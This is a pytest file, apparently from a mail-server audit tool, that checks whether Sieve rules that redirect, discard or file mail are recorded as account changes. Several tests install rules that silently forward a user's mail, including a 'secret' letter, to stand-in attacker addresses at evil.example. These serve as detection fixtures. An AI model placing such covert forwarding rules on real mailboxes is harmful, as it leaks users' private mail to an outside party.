# SPDX-License-Identifier: Apache-2.0
"""Rules at work in a mailbox: what Sieve sent on, threw away and filed."""

import pytest
from scenes import ALICE, BOB, letter, named, running

FRIEND, DROP = "friend@partner.example", "drop@evil.example"


def test_a_redirect_is_a_change_and_the_mail_that_leaves_is_nobodys(scene):
    scene.server.sieve(ALICE, f'redirect "{DROP}";')
    scene.server.receive(FRIEND, [ALICE], letter("secret"))
    evidence = scene.read()
    (change,) = evidence.table("changes")
    assert scene.when(change["time"])
    assert {name: change[name] for name in ("account", "actor", "operation", "what", "after")} == {
        "account": ALICE,
        "actor": ALICE,
        "operation": "rule.redirect",
        "what": named("secret"),
        "after": DROP,
    }
    assert evidence.rows("deliveries", "address", "status") == [(ALICE, "delivered"), (DROP, "delivered")]
    assert {row["account"] for row in evidence.table("messages")} == {None}
    assert evidence.table("signins") == []


def test_a_rule_that_keeps_a_copy_and_one_that_has_two_targets(scene):
    scene.server.sieve(BOB, f'require "copy"; redirect :copy "{DROP}"; redirect "other@evil.example";')
    scene.server.receive(FRIEND, [BOB], letter("copied"))
    assert scene.read().rows("changes", "account", "operation", "after", "what") == [
        (BOB, "rule.redirect", DROP, named("copied")),
        (BOB, "rule.redirect", "other@evil.example", named("copied")),
    ]


def test_what_a_rule_throws_away_or_files_is_a_change(scene):
    scene.server.sieve(
        ALICE,
        'require ["fileinto", "mailbox"];\n'
        'if header :contains "subject" "invoice" { discard; stop; }\n'
        'if header :contains "subject" "feed" { fileinto :create "RSS Feeds"; }\n',
    )
    scene.server.receive(FRIEND, [ALICE], letter("gone", "your invoice"))
    scene.server.receive(FRIEND, [ALICE], letter("filed", "a feed"))
    scene.server.receive(FRIEND, [ALICE], letter("kept", "dinner"))
    assert scene.read().rows("changes", "operation", "account", "what", "after") == [
        ("rule.discard", ALICE, named("gone"), None),
        ("rule.fileinto", ALICE, named("filed"), "RSS Feeds"),
    ]


def test_a_rule_that_is_not_met_is_no_change(scene):
    scene.server.sieve(ALICE, f'if header :is "subject" "never" {{ redirect "{DROP}"; }}')
    scene.server.receive(FRIEND, [ALICE], letter("plain"))
    assert scene.read().table("changes") == []


@pytest.fixture(scope="module")
def sending_by_smtp():
    with running(redirects_by="smtp") as server:
        yield server


def test_a_redirect_that_leaves_by_smtp_is_nobodys_either(sending_by_smtp, scene_of):
    scene = scene_of(sending_by_smtp)
    sending_by_smtp.sieve(ALICE, f'redirect "{DROP}";')
    sending_by_smtp.receive(FRIEND, [ALICE], letter("secret"))
    evidence = scene.read()
    assert evidence.rows("changes", "account", "operation", "after") == [(ALICE, "rule.redirect", DROP)]
    assert evidence.rows("messages", "account", "direction") == [(None, "received"), (None, "received")]
    assert evidence.rows("deliveries", "address", "status") == [(ALICE, "delivered"), (DROP, "delivered")]
